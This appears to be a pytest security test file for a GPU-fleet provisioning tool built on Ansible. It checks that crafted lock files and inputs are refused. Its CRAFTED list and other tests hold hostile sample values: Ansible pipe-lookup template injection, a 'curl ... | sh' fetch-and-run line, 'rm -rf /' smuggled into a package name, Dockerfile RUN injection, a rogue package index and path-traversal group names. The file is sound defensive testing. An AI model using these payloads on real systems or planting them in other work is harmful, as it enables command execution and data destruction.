"""Plans, fleets and command-line values are untrusted input (issue: "Safe on a live fleet").

Crafted lock files are refused with exit 2 and the field named, before anything is rendered or
run; every string reaches Ansible tagged !unsafe, so Ansible never templates it. Plans come from the
fixture catalogue (tests/fixtures/compat): what is refused does not depend on today's data."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from provision.errors import InputError
from provision.fleet.extravars import dump_unsafe_yaml, to_extravars
from provision.plan.model import Plan, read_plan

INJECTION = "{{ lookup('pipe', 'touch MARKER') }}"

pytestmark = pytest.mark.usefixtures("on_fixture_catalogue")

GOOD_INVENTORY = {"all": {"children": {"a100": {"hosts": {"n1": {"ansible_host": "127.0.0.1", "ansible_port": 2201}}}}}}


@pytest.fixture
def lock(cli, tmp_path) -> dict:
    path = tmp_path / "good.lock.json"
    r = cli("plan", "--os", "ubuntu22.04", "--gpu", "h100-sxm", "--framework", "pytorch==2.5.1", "--lock", str(path))
    assert r.code == 0, r
    return json.loads(path.read_text())


def redigest(doc: dict) -> dict:
    """What an attacker can do: recompute the digest over the edited plan (a digest is not a signature)."""
    body = {k: v for k, v in doc.items() if k != "digest"}
    from provision.plan.model import _load

    doc["digest"] = _load(Plan, body).digest()
    return doc


def edit(doc: dict, path: str, value) -> dict:
    *parents, last = path.split(".")
    node = doc
    for p in parents:
        node = node[int(p)] if isinstance(node, list) else node[p]
    node[last] = value
    return doc


CRAFTED = [
    # (what is changed, new value, digest handling, what the error names)
    ("driver.version", INJECTION, "redigest", "driver.version"),
    ("driver.version", INJECTION, "drop", "has no digest"),
    ("driver.version", INJECTION, "keep", "driver.version"),
    ("gpu.id", "h100-sxm\nRUN curl http://127.0.0.1/x | sh", "redigest", "gpu.id"),
    (
        "framework.requirement",
        "torch==2.5.1 --extra-index-url http://127.0.0.1/evil",
        "redigest",
        "framework.requirement",
    ),
    ("framework.requirement", "torch @ https://127.0.0.1/torch.whl", "redigest", "framework.requirement"),
    ("driver.packages.0.name", "nvidia-open; rm -rf /", "redigest", "driver.packages.0.name"),
    ("base_image", "nvidia/cuda:12.4.1-base-ubuntu22.04\nRUN id", "redigest", "base_image"),
    ("framework.index_url", "http://127.0.0.1/simple", "redigest", "framework.index_url"),
    ("os.name", "Ubuntu {% raw %}", "redigest", "os.name"),
    ("surprise", "x", "redigest", "'surprise' was unexpected"),
]


@pytest.mark.parametrize(("field", "value", "digest", "named"), CRAFTED)
def test_crafted_locks_are_refused_naming_the_field(tmp_path, lock, field, value, digest, named):
    doc = edit(lock, field, value)
    if digest == "redigest" and field != "surprise":
        redigest(doc)
    elif digest == "drop":
        del doc["digest"]
    path = tmp_path / "crafted.lock.json"
    path.write_text(json.dumps(doc))
    with pytest.raises(InputError) as info:
        read_plan(path)
    assert named in info.value.message
    assert info.value.exit_code == 2
    assert "\n" not in info.value.message, "one line, whatever the value held"


def test_a_good_lock_passes_and_round_trips(tmp_path, lock):
    path = tmp_path / "p.json"
    path.write_text(json.dumps(lock))
    assert read_plan(path).to_dict() == lock


@pytest.mark.parametrize("command", ["apply", "render", "build", "verify"])
def test_commands_refuse_a_crafted_lock_before_acting(cli, tmp_path, lock, command):
    doc = redigest(edit(lock, "driver.version", INJECTION))
    crafted = tmp_path / "crafted.lock.json"
    crafted.write_text(json.dumps(doc))
    inv = tmp_path / "inv.yml"
    inv.write_text(yaml.safe_dump(GOOD_INVENTORY))
    out = tmp_path / "out"
    args = {
        "apply": ["apply", "-i", str(inv), "--plan", str(crafted), "--run-dir", str(out)],
        "render": ["render", "--plan", str(crafted), "--out", str(out)],
        "build": ["build", "--plan", str(crafted)],
        "verify": ["verify", "--local", "--plan", str(crafted)],
    }[command]
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        r = cli(*args)
    finally:
        os.chdir(cwd)
    assert r.code == 2, r
    assert "driver.version" in r.err
    assert "Traceback" not in r.err
    assert not out.exists(), "nothing rendered, no run folder"
    assert not (tmp_path / "MARKER").exists()


@pytest.mark.parametrize("group", ["../../../escaped", "a/b", "..", "a.b", "x y", "-lead"])
def test_fleet_group_names_cannot_leave_the_run_folder(cli, tmp_path, group):
    inv = tmp_path / "inv.yml"
    inv.write_text(yaml.safe_dump(GOOD_INVENTORY))
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text(yaml.safe_dump({"groups": {group: {"os": "rocky9", "gpu": "a100-pcie"}}}))
    run_dir = tmp_path / "runs" / "r1"
    r = cli("apply", "-i", str(inv), "--fleet", str(fleet), "--run-dir", str(run_dir))
    assert r.code == 2, r
    assert "is not a usable group name" in r.err
    assert not (tmp_path / "runs").exists()
    assert not (tmp_path / "escaped.yml").exists()


def test_render_refuses_a_base_image_with_a_newline(cli, tmp_path):
    r = cli(
        "render", "--os", "ubuntu22.04", "--gpu", "h100-sxm", "--out", str(tmp_path / "o"),
        "--base-image", "nvidia/cuda:12.4.1-base-ubuntu22.04\nRUN id",
    )  # fmt: skip
    assert r.code == 2, r
    assert "--base-image" in r.err
    assert not (tmp_path / "o").exists()


def test_every_string_reaches_ansible_untrusted(fixture_matrix):
    from ansible.parsing.yaml.loader import AnsibleLoader
    from ansible.template import is_trusted_as_template

    from provision.plan.model import PlanRequest
    from provision.plan.resolve import resolve

    gpu = fixture_matrix.gpu("h100-sxm")
    profiles = fixture_matrix.mig_set(gpu.mig).profiles
    layout = ",".join(p.name for p in sorted(profiles, key=lambda p: -p.compute_slices)[1:])  # all but the whole GPU
    assert "," in layout, "a layout of two profiles"
    plan = resolve(fixture_matrix, PlanRequest("rocky9", gpu.id, mig=layout))
    assert plan.mig is not None
    text = dump_unsafe_yaml({**to_extravars(plan), "site_value": INJECTION})
    loaded = AnsibleLoader(text).get_single_data()
    strings = []

    def walk(v):
        if isinstance(v, str):
            strings.append(v)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)

    walk(loaded)
    assert len(strings) > 20
    assert not [s for s in strings if "{" in s and is_trusted_as_template(s)]
    assert loaded["site_value"] == INJECTION
    assert loaded == {**to_extravars(plan), "site_value": INJECTION}, "every value keeps its type ('9' stays a string)"


def test_ansible_playbook_prints_an_injected_value_and_runs_nothing(tmp_path):
    """The real consumer: ansible-playbook reads the extra vars file as apply writes it."""
    marker = tmp_path / "MARKER"
    value = INJECTION.replace("MARKER", str(marker))
    (tmp_path / "vars.yml").write_text(dump_unsafe_yaml({"provision_driver_version": value}))
    (tmp_path / "play.yml").write_text(
        "- hosts: localhost\n  connection: local\n  gather_facts: false\n  tasks:\n"
        "    - ansible.builtin.debug:\n        msg: 'version={{ provision_driver_version }}'\n"
    )
    exe = Path(sys.executable).with_name("ansible-playbook")
    proc = subprocess.run(
        [str(exe), "-i", "localhost,", str(tmp_path / "play.yml"), "-e", f"@{tmp_path / 'vars.yml'}"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, "ANSIBLE_NOCOLOR": "1", "ANSIBLE_LOCALHOST_WARNING": "False"},
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "version={{ lookup(" in proc.stdout
    assert not marker.exists()
